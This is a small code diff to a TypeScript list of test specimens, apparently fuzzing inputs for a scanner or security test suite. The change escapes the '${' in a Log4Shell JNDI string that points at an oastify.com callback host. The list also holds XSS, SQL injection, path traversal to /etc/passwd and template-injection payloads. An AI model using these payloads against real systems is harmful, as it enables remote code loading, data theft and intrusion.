@@ -171,7 +171,7 @@ export const ROBOTS_TUNED: readonly Specimen[] = specimens([
   { name: '<script>alert(1)</script>', text: 'test' },
   "1' OR '1'='1",
   { name: 'sample@email.tst', text: '555' },
-  '${jndi:ldap://x.oastify.com/a}',
+  `\${jndi:ldap://x.oastify.com/a}`,
   '../../../../../../etc/passwd',
   '{{7*7}}',
   { text: '"><img src=x onerror=alert(document.domain)>' },
